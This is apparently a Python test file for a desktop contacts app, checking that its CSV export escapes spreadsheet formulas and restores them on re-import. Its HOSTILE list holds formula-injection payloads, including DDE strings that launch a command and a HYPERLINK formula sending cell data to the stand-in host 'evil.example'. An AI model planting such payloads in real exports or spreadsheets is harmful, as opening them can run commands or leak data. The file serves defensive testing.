"""People as a table: what our own reader gives back, and that no cell is ever a formula."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from weavit_desktop.domain.card import Address, Card, Labelled, Names, Property
from weavit_desktop.domain.formulas import neutralise, restore
from weavit_desktop.exporting import tables

HOSTILE = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1)',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1dcmd",
    "-A1",
    "+",
    "=1",
)
FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_be_a_formula_gets_an_apostrophe(name: str) -> None:
    safe = neutralise(name)
    assert safe.startswith("'")
    assert safe.replace("'", "") == name.replace("'", "")


@pytest.mark.parametrize("number", ["+49 151 123", "+41 (0)44 668-18-00", "--02-08", "-7", "+1.415.555"])
def test_a_number_that_names_nothing_stays_as_it_is(number: str) -> None:
    assert neutralise(number) == number


@given(st.text(st.sampled_from("=+-@;\t\r\n A1|!'\uff1d,\""), max_size=20) | st.text(max_size=20))
def test_every_cell_comes_back_as_it_was(cell: str) -> None:
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["'=1+1", "''@SUM(A1)", "x;'=1", "'\n'=1"])
def test_an_apostrophe_before_a_formula_of_ones_own_survives(cell: str) -> None:
    assert neutralise(cell) != cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["'tis", "O'Neil", "'90s", "'+49 30", "+49 30"])
def test_what_is_no_formula_is_left_alone_both_ways(cell: str) -> None:
    assert neutralise(cell) == restore(cell) == cell


@given(text=st.text(st.sampled_from("=+-@\t\r\n A1|!'\uff1d,\"")), number=st.sampled_from(HOSTILE))
def test_no_cell_of_a_card_is_ever_a_formula(text: str, number: str) -> None:
    evil = f"{number}{text}"
    card = Card(
        name=evil,
        names=Names(evil, text, evil, nickname=text),
        organization=text,
        department=evil,
        title=text,
        emails=(Labelled(evil, (text,)),),
        phones=tuple(Labelled(evil) for _ in range(6)),
        addresses=(Address(street=evil, country=text),),
        urls=(Labelled(text),),
        notes=(evil, text),
        categories=(evil,),
    )

    for cell in _cells(card):
        is_number = not set(cell.strip()) - set("0123456789+() ./-") and any(map(str.isdigit, cell))
        assert is_number or not cell.lstrip(" ").startswith(FORMULA), repr(cell)


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("Firm;=1+1", "Firm;'=1+1"),
        ('hello; "=HYPERLINK(A1);', "hello; \"'=HYPERLINK(A1);"),
        ("one\n@SUM(1)", "one\n'@SUM(1)"),
        ("one\t-A1", "one\t'-A1"),
        ("list:\n- one\n- two", "list:\n- one\n- two"),
        ("call;+49 151 1234", "call;+49 151 1234"),
    ],
)
def test_no_formula_begins_behind_what_others_take_for_the_end_of_a_cell(text: str, safe: str) -> None:
    assert neutralise(text) == safe


@given(st.text(st.sampled_from('=@;\t\r\n A1"'), max_size=12))
def test_read_with_semicolons_no_cell_is_a_formula_either(text: str) -> None:
    line = tables.row(Card("Anna", notes=(f"x{text}",))).decode()
    for cells in csv.reader(io.StringIO(line, newline=""), delimiter=";"):
        assert not any(cell.lstrip(' "').startswith(("=", "@")) for cell in cells), line


def test_more_values_than_columns_stand_together_in_the_last() -> None:
    card = Card("A", emails=tuple(Labelled(f"{n}@a.example", ("work",)) for n in range(6)))

    row = dict(zip(_read(tables.header())[0], _cells(card), strict=True))

    assert row["E-mail 1 - Value"] == "0@a.example"
    assert row["E-mail 4 - Value"] == "3@a.example ::: 4@a.example ::: 5@a.example"


def test_what_a_table_cannot_hold_is_counted() -> None:
    card = Card("A", extra=(Property("X-FOO", "1"), Property("X-BAR", "2")))

    assert tables.left_out(card, photo=True) == ["pictures", *["properties of other programs"] * 2]
    assert tables.left_out(Card("A"), photo=False) == []


def _cells(card: Card) -> list[str]:
    (cells,) = _read(tables.row(card))
    return cells


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))
